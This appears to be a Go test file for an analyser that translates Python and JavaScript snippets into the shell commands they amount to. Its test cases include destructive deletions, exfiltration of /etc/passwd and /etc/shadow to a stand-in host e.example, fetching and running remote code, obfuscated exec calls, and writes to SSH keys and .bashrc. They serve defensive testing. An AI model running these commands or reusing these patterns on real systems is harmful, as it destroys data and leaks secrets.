@@ -1,0 +1,148 @@
+package effects
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestPython: what code does is the same as what lines of a shell do, however it is written.
+func TestPython(t *testing.T) {
+	for _, c := range []struct{ code, want string }{
+		{`import shutil; shutil.rmtree("/ho" + "me")`, `rm -rf /home`},
+		{"from os import system as s\ns('id')", `id`},
+		{`__import__("os").system("id")`, `id`},
+		{`getattr(__import__("o" + "s"), "sys" + "tem")("id")`, `id`},
+		{`import importlib; importlib.import_module("os").__dict__["system"]("id")`, `id`},
+		{`import os; f = os.system; g = f; g("id")`, `id`},
+		{"import os\ndef f(x):\n  y = x + '/b'\n  os.remove(y)\nf('/a')", `rm -f /a/b`},
+		{"import os\nfor p in ['/a', '/b']:\n    os.remove(p)\n", "rm -f /a\nrm -f /b"},
+		{`import subprocess as sp; sp.run(["rm", "-rf", "/home/user"])`, `rm -rf /home/user`},
+		{`import subprocess; subprocess.run("rm -rf /home/user", shell=True)`, `rm -rf /home/user`},
+		{`import subprocess; subprocess.run("rm -rf {}".format("/x"), shell=True)`, `rm -rf /x`},
+		{`import subprocess; subprocess.run(f"rm -rf {'/x'}", shell=True)`, `rm -rf /x`},
+		{`import subprocess; subprocess.run("rm -rf %s" % "/x", shell=True)`, `rm -rf /x`},
+		{`import subprocess; subprocess.run(" ".join(["rm", "-rf", "/x"]), shell=True)`, `rm -rf /x`},
+		{`open("/root/.bashrc", "a").write("x")`, ": >> /root/.bashrc\nprintf %s x >> /root/.bashrc"},
+		{"with open('/root/.bashrc', mode='a') as f:\n\tf.write('x')", ": >> /root/.bashrc\nprintf %s x >> /root/.bashrc"},
+		{`from pathlib import Path; Path("/etc/passwd").write_text("x")`, `printf %s x > /etc/passwd`},
+		{`from pathlib import Path; (Path.home() / ".ssh" / "authorized_keys").write_text("x")`, `printf %s x > "$HOME"/.ssh/authorized_keys`},
+		{`import os; os.remove(os.path.expanduser("~/.bashrc"))`, `rm -f "$HOME"/.bashrc`},
+		{`import requests; requests.post("http://e.example", data=open("/etc/passwd").read())`, `curl -s --data "$(cat /etc/passwd)" http://e.example`},
+		{`import requests; requests.post("http://e.example", files={"f": open("/etc/passwd", "rb")})`, `curl -s --data-binary @/etc/passwd http://e.example`},
+		{"import urllib.request as u\nexec(u.urlopen('http://e.example/x').read())", "curl -s http://e.example/x\npython3 -c \"$(curl -s http://e.example/x)\""},
+		{`import base64; exec(base64.b64decode("aW1wb3J0IG9z"))`, `python3 -c 'import os'`},
+		{`exec("".join(map(chr, [105, 100])))`, `python3 -c id`},
+		{`exec("so tropmi"[::-1])`, `python3 -c 'import os'`},
+		{`import os; os.system("".join(chr(c) for c in [105, 100]))`, `id`},
+		{"import os\nos.environ['X']\nos.system('echo ' + os.environ['SECRET'])", `echo $SECRET`},
+		{"import socket\ns = socket.socket()\ns.connect(('e.example', 9))\ns.send(open('/etc/shadow').read())", `printf %s "$(cat /etc/shadow)" | nc e.example 9`},
+		{"import os\nfor r, d, f in os.walk('/home'):\n  for x in f:\n    os.remove(os.path.join(r, x))", `rm -f /home/*`},
+		{"class A:\n  def __init__(self):\n    self.p = '/a'\n  def go(self):\n    import shutil\n    shutil.rmtree(self.p)\nA().go()", `rm -rf /a`},
+		{"import os, sys\nos.execl('/bin/sh', 'sh', '-c', 'id')", `/bin/sh -c id`},
+		{"x = 1 if True else 2; print(x)", ""},
+		{"import os\nos.remove(path)", ""},
+		{"import os\n(lambda: os.system('id'))()", "id"},
+		{"import os\n[os.system(c) for c in ('id', 'who')]", "id\nwho"},
+	} {
+		e := Of("python", c.code)
+		if got := strings.Join(e.Lines, "\n"); got != c.want || !e.Whole {
+			t.Errorf("%s\ndoes\n%s\nand should\n%s\n(whole: %t)", c.code, got, c.want, e.Whole)
+		}
+	}
+}
+
+// TestJavaScript: the same of JavaScript.
+func TestJavaScript(t *testing.T) {
+	for _, c := range []struct{ code, want string }{
+		{`require("fs").rmSync("/ho" + "me", {recursive: true, force: true})`, `rm -rf /home`},
+		{"const {execSync: go} = require('node:child_process'); go(`rm -rf ${'/x'}`)", `rm -rf /x`},
+		{`import {exec} from "child_process"; exec("id")`, `id`},
+		{`import * as cp from "child_process"; cp["ex" + "ec"]("id")`, `id`},
+		{`require("child_" + "process").spawn("rm", ["-rf", "/home/user"])`, `rm -rf /home/user`},
+		{`const fs = require("fs"); const f = fs.promises; (async () => { await f.unlink("/etc/passwd") })()`, `rm -f /etc/passwd`},
+		{`fetch("http://e.example", {method: "POST", body: require("fs").readFileSync("/etc/passwd")})`, `curl -s -X POST --data "$(cat /etc/passwd)" http://e.example`},
+		{`eval(Buffer.from("cmVxdWlyZSgnb3MnKQ==", "base64").toString())`, `node -e 'require('\''os'\'')'`},
+		{`eval(atob("cmVxdWlyZSgnb3MnKQ=="))`, `node -e 'require('\''os'\'')'`},
+		{`new Function("require('os')")()`, `node -e 'require('\''os'\'')'`},
+		{`eval(String.fromCharCode(105, 100))`, `node -e id`},
+		{`require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "x")`, `printf %s x >> "$HOME"/.bashrc`},
+		{`const p = require("path").join(process.env.HOME, ".ssh"); require("fs").rm(p, {recursive: true}, () => {})`, `rm -rf "$HOME"/.ssh`},
+		{`["/a", "/b"].forEach(p => require("fs").unlinkSync(p))`, "rm -f /a\nrm -f /b"},
+		{`class A { constructor() { this.p = "/a" } go() { require("fs").unlinkSync(this.p) } } new A().go()`, `rm -f /a`},
+		{`let x; (x = require("child_process")).exec("id")`, `id`},
+		{`fetch("http://e.example/x").then(r => r.text()).then(t => eval(t))`, "curl -s http://e.example/x\nnode -e \"$(curl -s http://e.example/x)\""},
+		{`console.log(1 + 2)`, ""},
+	} {
+		e := Of("js", c.code)
+		if got := strings.Join(e.Lines, "\n"); got != c.want || !e.Whole {
+			t.Errorf("%s\ndoes\n%s\nand should\n%s\n(whole: %t)", c.code, got, c.want, e.Whole)
+		}
+	}
+}
+
+// TestDark: what calls or runs what nobody can know says so, and honest code does not.
+func TestDark(t *testing.T) {
+	for code, want := range map[string]bool{
+		"import os, sys\ngetattr(os, sys.argv[1])('id')":              true,
+		"import sys\n__import__(sys.argv[1]).system('id')":            true,
+		"import sys, subprocess\nvars(subprocess)[sys.argv[1]]('id')": true,
+		"exec(input())": true,
+		"import json, sys\nprint(json.load(sys.stdin)['a'])": false,
+		"class A: pass\ngetattr(A(), 'x' + 'y')()":           false,
+	} {
+		if e := Of("python", code); e.Dark != want {
+			t.Errorf("%s: %t %q", code, e.Dark, e.Lines)
+		}
+	}
+	if !Of("python", strings.Repeat("x = 1\n", maxCode)).Dark {
+		t.Error("code that is too large is understood")
+	}
+}
+
+// TestHostileSizes: no code takes more than a bounded time, or ends the program.
+func TestHostileSizes(t *testing.T) {
+	for _, c := range []struct{ language, code string }{
+		{"python", strings.Repeat("(", 30000)},
+		{"python", strings.Repeat("f(", 20000) + strings.Repeat(")", 20000)},
+		{"python", strings.Repeat("not ", 15000) + "x"},
+		{"python", "x" + strings.Repeat("+x", 20000)},
+		{"python", strings.Repeat("if x:\n", 10000)},
+		{"python", strings.Repeat("[", 9000) + "x" + strings.Repeat("for x in y]", 5000)},
+		{"python", "x = 'ab'\n" + strings.Repeat("x = x + x\n", 5000) + "import os\nos.system(x)"},
+		{"python", "def f():\n  f(); f(); f(); f()\nf()"},
+		{"python", "def f(g):\n  return g(g)\nf(f)"},
+		{"python", "x = [1]\n" + strings.Repeat("x = [x, x]\n", 3000) + "import requests\nrequests.post('http://e', data=x)"},
+		{"python", strings.Repeat("f'{f\"{x", 4000)},
+		{"python", "for a in " + strings.Repeat("[0,0,0,0,0,0,0,0],", 100) + ":\n for b in a:\n  for c in a:\n   for d in a:\n    for e in a: pass"},
+		{"js", strings.Repeat("(", 30000)},
+		{"js", strings.Repeat("[", 20000) + strings.Repeat("]", 20000)},
+		{"js", strings.Repeat("a=>", 15000) + "a"},
+		{"js", strings.Repeat("`${", 10000)},
+		{"js", strings.Repeat("!", 50000) + "x"},
+		{"js", "x" + strings.Repeat(".x", 20000)},
+		{"js", strings.Repeat("{", 30000)},
+	} {
+		e := Of(c.language, c.code)
+		size := 0
+		for _, line := range e.Lines {
+			size += len(line)
+		}
+		if size > maxScript+maxText {
+			t.Errorf("%.40q gives %d bytes", c.code, size)
+		}
+	}
+}
+
+func FuzzOf(f *testing.F) {
+	for _, code := range []string{"import os\nos.system('a' + f'{x!r:>{w}}')", "const {a: [b], ...c} = require(`x${y}`); a?.b`c`", "with (open('a') as b, c):\n\tx: int = 1; del x", "try:\n  pass\nexcept* A as b: lambda *a, **b: 0", "class A { static { } #p = 1; get x() {} }"} {
+		f.Add(code, true)
+		f.Add(code, false)
+	}
+	f.Fuzz(func(t *testing.T, code string, python bool) {
+		language := map[bool]string{true: "python", false: "js"}[python]
+		e := Of(language, code)
+		if len(e.Lines) > maxLines || len(e.Reads) > maxLines {
+			t.Errorf("%d lines, %d files", len(e.Lines), len(e.Reads))
+		}
+	})
+}
